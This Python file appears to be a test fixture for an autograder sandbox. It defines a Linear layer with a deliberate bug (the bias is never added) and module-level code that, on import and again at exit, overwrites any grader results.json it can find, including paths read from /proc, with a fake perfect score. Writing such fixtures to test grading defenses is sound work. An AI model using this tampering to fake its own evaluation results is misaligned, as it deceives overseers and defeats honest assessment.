"""Linear without its bias (a real bug), plus an attempt to overwrite the grader's results.

On import it writes a results.json with a perfect score wherever one might be read:
Gradescope's /autograder/results/, the --results path of any grader process it can see
in /proc, and the working folder; and it registers the same write with atexit. None of
it may reach the grade: the static policy blocks the file (import atexit, open), and
without the policy the sandbox's user cannot write there and its processes end with
os._exit, which skips atexit handlers.
"""

import atexit
import json
import os

import torch

FAKE = {"score": 100.0, "tests": [{"name": "Linear: hacked", "score": 100.0, "max_score": 100.0,
                                   "visibility": "visible", "output": "pwned"}]}


def _targets():
    paths = ["/autograder/results/results.json", "results.json"]
    for pid in os.listdir("/proc"):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                args = f.read().decode(errors="replace").split("\0")
        except OSError:
            continue
        paths += [args[i + 1] for i, a in enumerate(args[:-1]) if a == "--results"]
    return paths


def _overwrite():
    for path in _targets():
        try:
            with open(path, "w") as f:
                json.dump(FAKE, f)
        except OSError:
            pass


_overwrite()
atexit.register(_overwrite)


class Linear:
    """y = x @ W + b, mapping M input features to N output features (the bias is forgotten)."""

    def __init__(self, in_features: int, out_features: int):
        std = (2.0 / (in_features + out_features)) ** 0.5
        self.W = torch.randn(in_features, out_features) * std
        self.b = torch.zeros(out_features)
        self.dW = None
        self.db = None
        self._x = None
        self.needs_dx = True

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        self._x = x
        return x @ self.W

    def backward(self, dout: torch.Tensor) -> torch.Tensor:
        self.dW = self._x.T @ dout
        self.db = dout.sum(dim=0)
        return dout @ self.W.T

    def step(self, lr: float) -> None:
        self.W.add_(self.dW, alpha=-lr)
        self.b.add_(self.db, alpha=-lr)
